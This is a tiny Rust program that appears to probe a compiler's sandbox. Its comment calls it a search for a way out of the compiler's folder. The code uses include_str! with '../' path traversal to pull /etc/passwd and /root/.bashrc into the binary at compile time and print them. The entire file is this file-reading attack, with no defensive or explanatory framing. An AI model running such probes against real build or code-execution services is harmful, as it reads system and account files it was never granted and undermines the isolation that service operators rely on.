// Looks for a way out of the folder that the compiler lies in.
fn main() {
    print!("{}{}", include_str!("/lent/0/../../etc/passwd"), include_str!("/lent/../root/.bashrc"));
}
